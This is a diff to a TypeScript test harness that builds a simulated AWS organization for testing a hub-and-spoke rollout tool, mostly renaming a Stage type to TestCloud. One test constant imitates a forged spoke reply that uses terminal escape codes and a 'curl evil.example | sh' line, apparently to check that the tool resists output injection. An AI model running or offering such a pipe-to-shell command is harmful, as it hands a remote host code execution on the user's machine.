@@ -21,7 +21,6 @@ import { type Policy, policy } from '../../stacksets/permissions/policy.ts';
 import { spokePermissions } from '../../stacksets/permissions/spoke.ts';
 import { spokeRolePermissions, spokeRoleTrust } from '../../stacksets/permissions/spoke-role.ts';
 import { createCertificates } from '../sandbox/certificates/certificates.ts';
-import { type Stage, startStage } from '../sandbox/cloudformation/stage.ts';
 import { startLimitsDirectory } from '../sandbox/directory/limits/limits.ts';
 import {
   BIND_PARAMETER,
@@ -43,6 +42,7 @@ import {
   roleArn,
   WORKLOADS,
 } from '../sandbox/organization/roles.ts';
+import { startTestCloud, type TestCloud } from '../sandbox/organization/test-cloud.ts';
 import { buildBundles } from '../sandbox/product/bundles.ts';
 import { standIn } from '../sandbox/product/stand-in.ts';
 
@@ -75,7 +75,7 @@ export const ACCOUNTS = Object.fromEntries(
 const HUB_ROLE = 'hub-of-doctor';
 
 export interface Company {
-  readonly stage: Stage;
+  readonly stage: TestCloud;
   /** The unit of the rollout. */
   readonly unit: string;
   /** Of the hub's own role. */
@@ -87,7 +87,7 @@ export interface Company {
 
 export async function startCompany(): Promise<Company> {
   const all = Object.values(ACCOUNTS).flat();
-  const stage = await startStage({}, all);
+  const stage = await startTestCloud({}, all);
   const bundles = await buildBundles(`${stage.folder}/functions`);
   const directory = await startLimitsDirectory({ certificates: createCertificates(stage.folder) });
   await storeSettings(directory, configuration(stage, CENTRAL));
@@ -136,7 +136,7 @@ export async function startCompany(): Promise<Company> {
 }
 
 /** A unit with all of them, the management account too; some are a unit further below, some are closed. */
-async function arrange(stage: Stage, accounts: readonly string[]): Promise<string> {
+async function arrange(stage: TestCloud, accounts: readonly string[]): Promise<string> {
   const organizations = new OrganizationsClient(configuration(stage, MANAGEMENT));
   const make = async (ParentId: string, Name: string): Promise<string> => {
     const command = new CreateOrganizationalUnitCommand({ ParentId, Name });
@@ -157,7 +157,12 @@ async function arrange(stage: Stage, accounts: readonly string[]): Promise<strin
 }
 
 /** What the rollout has brought to the account, or what has become of it. */
-async function rollOut(way: Way, account: string, stage: Stage, bundles: string): Promise<void> {
+async function rollOut(
+  way: Way,
+  account: string,
+  stage: TestCloud,
+  bundles: string,
+): Promise<void> {
   if (way === 'no role' || way === 'no longer active') return;
   const externalId = way === 'a role for another External ID' ? 'another-one' : EXTERNAL_ID;
   await makeRole(stage, account, SPOKE_ROLE, {
@@ -196,14 +201,14 @@ async function rollOut(way: Way, account: string, stage: Stage, bundles: string)
     );
 }
 
-function bundleOf(way: Way, stage: Stage, bundles: string): Promise<string> | string {
+function bundleOf(way: Way, stage: TestCloud, bundles: string): Promise<string> | string {
   if (way === 'an older spoke') return olderSpoke(stage);
   return way === 'a replaced spoke' ? replacedSpoke(stage) : join(bundles, 'spoke/index.mjs');
 }
 
 /** What an administrator of the account could put in the spoke's place: an answer that would pass for words of the doctor. */
 const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
-const replacedSpoke = (stage: Stage) =>
+const replacedSpoke = (stage: TestCloud) =>
   standIn(
     stage.folder,
     'replaced-spoke',
@@ -211,7 +216,7 @@ const replacedSpoke = (stage: Stage) =>
   );
 
 /** What a spoke from before there were checks throws at what is no order of its own version. */
-const olderSpoke = (stage: Stage) =>
+const olderSpoke = (stage: TestCloud) =>
   standIn(
     stage.folder,
     'older-spoke',
@@ -227,7 +232,7 @@ interface RoleOptions {
 }
 
 async function makeRole(
-  stage: Stage,
+  stage: TestCloud,
   account: string,
   name: string,
   { trust, permissions }: RoleOptions,
@@ -248,7 +253,7 @@ async function makeRole(
 
 /** A session of a new role for a function: its account enters it here in place of Lambda. */
 export async function sessionOf(
-  stage: Stage,
+  stage: TestCloud,
   account: string,
   name: string,
   permissions?: Policy,
@@ -274,7 +279,7 @@ export async function sessionOf(
   };
 }
 
-function configuration(stage: Stage, account: string) {
+function configuration(stage: TestCloud, account: string) {
   return {
     endpoint: stage.moto.endpoint,
     region: REGION,
